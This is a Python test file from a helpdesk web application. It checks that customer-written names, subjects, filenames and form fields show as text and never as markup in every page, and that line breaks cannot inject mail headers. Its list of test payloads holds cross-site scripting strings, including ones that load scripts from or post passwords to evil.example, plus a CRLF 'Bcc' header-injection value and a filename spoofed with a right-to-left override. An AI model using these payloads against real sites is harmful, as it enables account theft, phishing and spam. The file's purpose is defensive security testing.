"""T9, T21: what customers write, is named, and names its files is shown as text in every view, and never as markup."""

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from django.test import Client

from helpwell.channels.contact_form.deliver import bring_replies
from helpwell.conversations.models import Conversation
from helpwell.conversations.private_link import Way, make
from helpwell.outbox.models import Mail
from helpwell.people.models import Sender, User
from tests.factories import a_file, write

# A few of each kind, written for this test; with the large shared collection beside the project all of it is tried.
OURS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '"><script src=//evil.example/x.js></script>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>click</a>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "{{ 7|add:7 }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "Laura\r\nBcc: victim@example.com",
    "\u202egnp.exe",
]
SHARED = Path(__file__).resolve().parents[3] / "shared" / "fixtures" / "security" / "html.jsonl"


def shared_payloads() -> list[str]:
    return [json.loads(line)["payload"] for line in SHARED.read_text().splitlines()] if SHARED.exists() else []


PAYLOADS = [*OURS, *shared_payloads()]
AT_ONCE = 30  # payloads in one conversation

MADE_BY_US = {"a", "p", "br", "mark"}  # what plain text may become: a link, a paragraph, a marked word
ADDRESSES = ("/", "#", "?", "http://", "https://", "mailto:", "data:image/", "tel:")


class Reader(HTMLParser):
    """Reads a page as a browser would: which elements there are, and with which attributes."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.bad: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attributes:
            leads = name in {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}
            if name.startswith("on") or name in {"srcdoc", "style"} or (leads and not _harmless(value or "")):
                self.bad.append(f"<{tag} {name}={value}>")


def _harmless(address: str) -> bool:
    return not address or address.lower().startswith(ADDRESSES)


def exchange(payloads: list[str], agent: User) -> Conversation:
    """A conversation with each payload wherever a customer's or an agent's words can stand."""
    name, subject = payloads[0], payloads[-1]
    first = write(payloads[0], sender=Sender(name=name, email="laura@example.com"), subject=subject)
    conversation = first.conversation
    for payload in payloads:
        write(payload, reply_proof=conversation, files=(a_file(f"{payload}.txt"),), fields=((payload, payload),))
    conversation.note(payloads[0], by=agent)
    conversation.reply(payloads[-1], by=agent)
    conversation.tag(payloads[0], by=agent)
    return conversation


def views_of(conversation: Conversation, words: str) -> list[str]:
    """Every page and part that shows something of it."""
    link = make(conversation, conversation.contact.addresses.get(), Way.MAIL)
    own = f"/desk/conversations/{conversation.pk}/"
    return [
        *("/desk/", "/desk/conversations/?view=all", "/desk/conversations/rows/?view=all"),
        *(own, f"{own}news/", f"/desk/conversations/search/?q={quote(words)}"),
        *(f"/en/conversations/{link}/", f"/de/conversations/{link}/messages/"),
    ]


def shown(client: Client, conversation: Conversation, words: str) -> dict[str, Reader]:
    """What a browser makes of each view."""
    pages = {path: client.get(path) for path in views_of(conversation, words)}
    assert {page.status_code for page in pages.values()} == {200}, pages
    return {path.partition("?")[0]: Reader(page.content.decode()) for path, page in pages.items()}


@pytest.fixture
def plain(client: Client, agent: User) -> set[str]:
    """The elements of all these views when nobody means harm."""
    client.force_login(agent)
    readers = shown(client, exchange(["hello"] * 3, agent), "hello")
    return MADE_BY_US.union(*(reader.tags for reader in readers.values()))


def assert_text_stays_text(payloads: list[str], client: Client, agent: User, plain: set[str]) -> None:
    for start in range(0, len(payloads), AT_ONCE):
        conversation = exchange(payloads[start : start + AT_ONCE], agent)
        for path, reader in shown(client, conversation, f"#{conversation.pk}").items():
            assert reader.tags <= plain, (path, reader.tags - plain)
            assert reader.bad == [], path
        conversation.resolve(by=agent)


def test_what_customers_send_is_text_in_every_view(client: Client, agent: User, plain: set[str]) -> None:
    assert_text_stays_text(OURS, client, agent, plain)


@pytest.mark.skipif(not SHARED.exists(), reason="the shared collection of attacks is not beside the project")
def test_the_whole_collection_of_attacks_is_text_in_every_view(client: Client, agent: User, plain: set[str]) -> None:
    assert_text_stays_text(shared_payloads(), client, agent, plain)


def test_a_mail_to_her_carries_no_header_of_hers(db: None, agent: User) -> None:
    """T21: line breaks in a name or a subject end as text, not as another header."""
    conversation = write("Hello", sender=Sender(name="Laura\r\nBcc: victim@example.com", email="laura@example.com"),
                         subject="Hi\r\nBcc: victim@example.com").conversation  # fmt: skip
    conversation.reply("Hello Laura", by=agent)

    assert bring_replies() == 1

    mail = Mail.objects.get()
    assert mail.to == ["laura@example.com"]
    assert not any(break_ in str(value) for break_ in "\r\n" for value in [mail.subject, *mail.headers.values()])
    assert "Bcc" not in mail.headers
